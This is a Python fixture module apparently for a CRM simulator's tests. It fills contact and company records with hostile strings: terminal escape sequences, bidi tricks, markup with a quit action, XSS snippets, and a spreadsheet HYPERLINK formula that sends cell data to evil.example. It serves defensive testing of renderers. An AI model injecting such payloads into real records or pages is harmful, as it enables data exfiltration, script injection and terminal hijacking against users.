"""Records that try to do things to whoever shows them: a terminal, a markup renderer, a spreadsheet, a memory limit."""

# ruff: noqa: RUF001 - letters of other scripts are the point
from __future__ import annotations

from collections.abc import Iterator

from console.simulator.store import Record

CLIPBOARD = "\x1b]52;c;ZXZpbA==\x07"
LINK = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"
TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J\x1b[H\x1b[31mred\x1b[0m\x1b[?1049h"
C1 = "\x9b31mC1 CSI\x9c\x9d0;owned\x9c\x85"
BIDI = "gro.elpmaxe@\u202eelbisrever\u2066\u200f\u2069"
NUL = "null\x00byte\x07bell\x08\x7f"
ACTION = "[@click=app.quit]click[/]"
MARKUP = "[/b][bold red]markup[/bold red][link=https://evil.example]x[/link]"
SEPARATORS = "one\u2028two\u2029three\r\nfour\ttab\x0b\x0c"
INVISIBLE = "zero\u200bwidth\u200d\ufeff\u00adsoft"
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"open")'
HTML = "<script>alert(1)</script>&amp;<img src=x onerror=alert(1)>"
WIDE = "👩‍👩‍👧‍👦ｗｉｄｅ\u0301\u0301\u0301\u0301Ｚ̴̛a̷l̶g̸o̶"
LONG = "64 kB: " + "abcdefgh" * 8191  # 65,535 characters
LINES = "\n".join(f"line {number}" for number in range(200))
VALUES = (
    CLIPBOARD,
    LINK,
    TITLE,
    CLEAR,
    C1,
    BIDI,
    NUL,
    ACTION,
    MARKUP,
    SEPARATORS,
    INVISIBLE,
    FORMULA,
    HTML,
    WIDE,
    LINES,
    LONG,
)


def contacts(first_id: int, created: int) -> Iterator[Record]:
    """One contact for each hostile value."""
    for number, value in enumerate(VALUES):
        values = {
            "email": f"hostile-{number:02d}@hostile.example",
            "firstname": value,
            "lastname": f"Hostile {number:02d} {value[:24]}",
            "company": value[:4000],
            "jobtitle": VALUES[number - 1][:200],
            "city": value[:64],
            "phone": value[:40],
            "lifecyclestage": "lead",
        }
        yield Record(first_id + number, created + number, created + number, 0, values)


def companies(first_id: int, created: int) -> Iterator[Record]:
    """One company for each hostile value."""
    for number, value in enumerate(VALUES):
        values = {
            "name": f"Hostile {number:02d} {value}"[:65_536],
            "domain": f"hostile-{number:02d}.example",
            "description": value,
            "city": value[:64],
            "phone": value[:40],
        }
        yield Record(first_id + number, created + number, created + number, 0, values)
